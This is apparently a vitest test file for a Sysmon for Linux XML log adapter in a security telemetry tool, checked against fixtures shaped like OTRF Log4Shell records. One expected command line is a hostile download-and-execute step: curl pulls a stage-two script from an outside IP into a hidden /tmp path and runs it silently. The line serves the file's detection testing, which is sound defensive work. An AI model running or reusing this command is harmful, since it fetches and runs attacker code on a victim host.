import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ParseOutcome } from '../../../src/adapters/adapter.js';
import { decodeXmlEntities, readEventXml } from '../../../src/adapters/sysmon/eventXml.js';
import { sysmonLinuxXmlAdapter as adapter } from '../../../src/adapters/sysmon/linuxXml.js';
import { projectRoot } from '../../../src/config/paths.js';
import { jsonRecords } from '../../../src/ingest/jsonRecords.js';
import { inputsOf } from '../../../src/ingest/openInput.js';
import type { NormalizedEvent } from '../../../src/model/event.js';

type Obj = Record<string, unknown>;

/** Small records written for these tests in the shape of the OTRF Log4Shell syslog records. */
function fixture(name: string): Obj {
  return JSON.parse(fs.readFileSync(path.join(projectRoot, 'test', 'fixtures', 'sysmon-linux', `${name}.json`), 'utf8')) as Obj;
}

function only(record: Obj): NormalizedEvent {
  const outcome = adapter.parse(record);
  if (outcome.outcome !== 'events') throw new Error(`expected events, got ${JSON.stringify(outcome)}`);
  expect(outcome.events).toHaveLength(1);
  return outcome.events[0]!;
}

const withMessage = (record: Obj, edit: (xml: string) => string): Obj => ({ ...record, SyslogMessage: edit(record.SyslogMessage as string) });
const host = { id: 'web-lnx-03', name: 'web-lnx-03', os: 'linux' };
const curl = { uid: 'web-lnx-03|6b1f0c2a-8a3b-65cc-b0e4-7d1a22560000', pid: 40413, image: '/usr/bin/curl' };

describe('event XML reader', () => {
  it('decodes the five named entities and decimal and hex character references, in one pass', () => {
    expect(decodeXmlEntities('&lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#35;&#x21;&#X41; &amp;lt; &nbsp; &#1114112;')).toBe(
      '<a> & "b" \'c\' #!&#X41; &lt; &nbsp; &#1114112;',
    );
  });

  it('reads System values and Data elements, single-quoted and self-closing ones too', () => {
    const xml =
      "<Event><System><Provider Name='Linux-Sysmon'/><EventID>1</EventID><TimeCreated SystemTime=\"2024-01-01T00:00:00.5Z\"/>" +
      '<Channel>Linux-Sysmon/Operational</Channel><Computer>h&amp;1</Computer></System>' +
      '<EventData><Data Name="A">x &lt;y&gt;</Data><Data Name=\'B\'/><Data Name="__proto__">p</Data></EventData></Event>';
    const event = readEventXml(xml);
    expect(event.system).toEqual({ provider: 'Linux-Sysmon', eventId: '1', recordId: undefined, systemTime: '2024-01-01T00:00:00.5Z', channel: 'Linux-Sysmon/Operational', computer: 'h&1' });
    expect(event.data).toEqual({ A: 'x <y>', B: '', ['__proto__']: 'p' });
    expect(Object.getPrototypeOf(event.data)).toBe(Object.prototype);
    expect(event.truncated).toBe(false);
  });

  it('flags a document cut before </Event> and leaves out the Data value the cut went through', () => {
    const event = readEventXml('<Event><System><EventID>5</EventID></System><EventData><Data Name="A">1</Data><Data Name="B">half');
    expect(event).toMatchObject({ truncated: true, data: { A: '1' } });
    expect('B' in event.data).toBe(false);
  });
});

describe('Sysmon for Linux XML adapter: recognition', () => {
  it.each(['process-create', 'network-connect', 'file-create', 'process-terminate', 'truncated-optional', 'truncated-needed'])('recognizes %s', (name) => {
    expect(adapter.recognizes(fixture(name))).toBe(true);
  });

  it('recognizes the XML in a Filebeat-style "message" field, and the Windows Sysmon provider', () => {
    const xml = fixture('process-create').SyslogMessage as string;
    expect(adapter.recognizes({ message: xml })).toBe(true);
    expect(adapter.recognizes({ Message: xml.replace('Linux-Sysmon"', 'Microsoft-Windows-Sysmon"') })).toBe(true);
  });

  it('does not recognize non-Sysmon syslog lines, other renderings or other providers', () => {
    const xml = fixture('process-create').SyslogMessage as string;
    const flatSysmon = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Hostname: 'ws1', Message: 'Process Create:\r\nRuleName: -' };
    const securityXml = { SyslogMessage: xml.replace('Linux-Sysmon"', 'Microsoft-Windows-Security-Auditing"') };
    for (const record of [fixture('auoms-execve'), fixture('sshd'), flatSysmon, securityXml, { SyslogMessage: 42 }, { other: xml }, {}]) {
      expect(adapter.recognizes(record)).toBe(false);
    }
  });
});

describe('Sysmon for Linux XML adapter: mapping through the shared Sysmon mapping', () => {
  it('maps a process create with its parent; entities in the command line are decoded; case is kept', () => {
    expect(only(fixture('process-create'))).toMatchObject({
      kind: 'process.start',
      ts: Date.parse('2024-02-14T09:31:07.118Z'),
      host,
      source: { format: 'sysmon', recordId: '318201' },
      process: {
        uid: 'web-lnx-03|6b1f0c2a-8a3b-65cc-48a2-3c9e11560000',
        pid: 40411,
        image: '/usr/bin/dash',
        user: 'tomcat',
        commandLine: `sh -c "curl -fsSL http://203.0.113.77/Stage2.sh -o /tmp/.X11-unix/Upd && chmod +x /tmp/.X11-unix/Upd && /tmp/.X11-unix/Upd --tag 'v2' >/dev/null 2>&1 </dev/null; echo #done!"`,
      },
      parent: { uid: 'web-lnx-03|6b1f0c2a-7f10-65cc-1838-a1d4e2550000', pid: 2207, image: '/usr/lib/jvm/java-11-openjdk-amd64/bin/java' },
    });
  });

  it('maps a network connection', () => {
    expect(only(fixture('network-connect'))).toMatchObject({
      kind: 'network.connect',
      host,
      actor: curl,
      direction: 'outbound',
      protocol: 'tcp',
      srcIp: '10.20.0.13',
      srcPort: 44872,
      dstIp: '203.0.113.77',
      dstPort: 80,
    });
  });

  it('maps a file create, keeping the Linux path as written', () => {
    expect(only(fixture('file-create'))).toMatchObject({ kind: 'file', op: 'create', host, actor: curl, path: '/tmp/.X11-unix/Upd', ts: Date.parse('2024-02-14T09:31:07.661Z') });
  });

  it('maps a process terminate', () => {
    expect(only(fixture('process-terminate'))).toMatchObject({ kind: 'process.end', host, process: curl, source: { recordId: '318209' } });
  });

  it('gives the same event id to the same record replayed, and a different one to another record', () => {
    expect(only(fixture('file-create')).id).toBe(only(fixture('file-create')).id);
    expect(only(fixture('file-create')).id).not.toBe(only(fixture('process-terminate')).id);
  });

  it('falls back to TimeCreated when UtcTime is absent, and skips event ids it does not model', () => {
    const noUtcTime = withMessage(fixture('process-terminate'), (xml) => xml.replace(/<Data Name="UtcTime">[^<]*<\/Data>/, ''));
    expect(only(noUtcTime).ts).toBe(Date.parse('2024-02-14T09:31:08.003Z'));
    const configChange = withMessage(fixture('process-terminate'), (xml) => xml.replace('<EventID>5<', '<EventID>16<'));
    expect(adapter.parse(configChange)).toEqual({ outcome: 'skipped', reason: 'sysmon event id 16 is not modelled' });
  });
});

describe('Sysmon for Linux XML adapter: truncated and bad records', () => {
  it('parses a record cut in its trailing optional fields', () => {
    expect(only(fixture('truncated-optional'))).toMatchObject({
      kind: 'process.start',
      source: { recordId: '318210' },
      process: { uid: 'web-lnx-03|6b1f0c2a-8a3d-65cc-58c1-91f0a7560000', pid: 40452, image: '/usr/bin/dash' },
      parent: { uid: 'web-lnx-03|6b1f0c2a-7f10-65cc-1838-a1d4e2550000', pid: 2207 },
    });
  });

  it('rejects, naming the message field and the truncation, a record cut before what the event needs', () => {
    expect(adapter.parse(fixture('truncated-needed'))).toEqual({
      outcome: 'rejected',
      field: 'SyslogMessage',
      reason: "the Sysmon XML is truncated (cut before its closing </Event>, e.g. by the syslog size limit): EventData 'Image' (needed for Sysmon event 1) is missing",
    });
    const cutInSystem = withMessage(fixture('process-create'), (xml) => xml.slice(0, xml.indexOf('<EventID>') + 10));
    expect(adapter.parse(cutInSystem)).toMatchObject({ outcome: 'rejected', field: 'SyslogMessage', reason: expect.stringMatching(/truncated.*<EventID> is missing/) });
  });

  it('reports a missing field by its own name when the XML is complete', () => {
    const noImage = withMessage(fixture('process-create'), (xml) => xml.replace(/<Data Name="Image">[^<]*<\/Data>/, ''));
    expect(adapter.parse(noImage)).toEqual({ outcome: 'rejected', field: 'Image', reason: 'is missing' });
    const badId = withMessage(fixture('process-create'), (xml) => xml.replace('<EventID>1<', '<EventID>one<'));
    expect(adapter.parse(badId)).toEqual({ outcome: 'rejected', field: 'SyslogMessage', reason: 'the Sysmon XML <EventID> must be an integer, got "one"' });
  });

  it('rejects, never throws, records that are not Sysmon XML', () => {
    expect(adapter.parse(fixture('sshd'))).toEqual({ outcome: 'rejected', field: 'SyslogMessage / message / Message', reason: 'holds no <Event> XML' });
    const securityXml = withMessage(fixture('process-create'), (xml) => xml.replace('Linux-Sysmon"', 'Microsoft-Windows-Security-Auditing"'));
    expect(adapter.parse(securityXml)).toEqual({ outcome: 'rejected', field: 'SyslogMessage', reason: 'is an <Event> of a provider other than Sysmon' });
  });
});

/** Real public telemetry (../shared/fixtures, not in the repository: licence); absent in a user's clone. */
const log4shell = path.resolve(projectRoot, '..', 'shared', 'fixtures', 'otrf-security-datasets', 'datasets', 'compound', 'Log4Shell');

interface Tally {
  records: number;
  recognized: number;
  truncated: number;
  /** Events mapped from records cut by the syslog size limit. */
  fromTruncated: NormalizedEvent[];
  rejected: string[];
  kinds: Record<string, number>;
  oses: Set<string>;
}

async function tallyZip(zip: string): Promise<Tally> {
  const [entry] = await inputsOf(zip);
  const tally: Tally = { records: 0, recognized: 0, truncated: 0, fromTruncated: [], rejected: [], kinds: {}, oses: new Set() };
  for await (const item of jsonRecords(await entry!.open())) {
    if (item.kind === 'error') throw new Error(`line ${item.line}: ${item.reason}`);
    tally.records++;
    const record = item.value as Obj;
    if (!adapter.recognizes(record)) continue;
    tally.recognized++;
    const outcome = adapter.parse(record);
    if (readEventXml(record.SyslogMessage as string).truncated) {
      tally.truncated++;
      if (outcome.outcome === 'events') tally.fromTruncated.push(...outcome.events);
    }
    count(tally, outcome, item.line);
  }
  return tally;
}

function count(tally: Tally, outcome: ParseOutcome, line: number): void {
  if (outcome.outcome === 'rejected') tally.rejected.push(`line ${line}: ${outcome.field ?? ''} ${outcome.reason}`);
  if (outcome.outcome !== 'events') return;
  for (const event of outcome.events) {
    tally.kinds[event.kind] = (tally.kinds[event.kind] ?? 0) + 1;
    tally.oses.add(event.host.os);
  }
}

describe.skipIf(!fs.existsSync(log4shell))('real telemetry: OTRF Log4Shell syslog records', () => {
  it('maps every Sysmon for Linux record, the truncated one included, with no rejects', async () => {
    const tally = await tallyZip(path.join(log4shell, 'syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip'));
    expect(tally.rejected).toEqual([]);
    expect(tally).toMatchObject({ records: 93, recognized: 93, truncated: 1 });
    expect(tally.kinds).toEqual({ 'process.start': 31, 'process.end': 50, 'network.connect': 6, file: 6 });
    expect([...tally.oses]).toEqual(['linux']);
    // The cut record is the exploit's reverse shell; only the tail of ParentCommandLine was lost.
    expect(tally.fromTruncated).toMatchObject([
      { kind: 'process.start', process: { image: '/bin/bash', user: 'tomcat' }, parent: { pid: 1340, image: '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java' } },
    ]);
  });

  it('recognizes none of the auoms (auditd) syslog records of the same capture', async () => {
    const tally = await tallyZip(path.join(log4shell, 'syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip'));
    expect(tally).toMatchObject({ records: 50, recognized: 0 });
  });
});
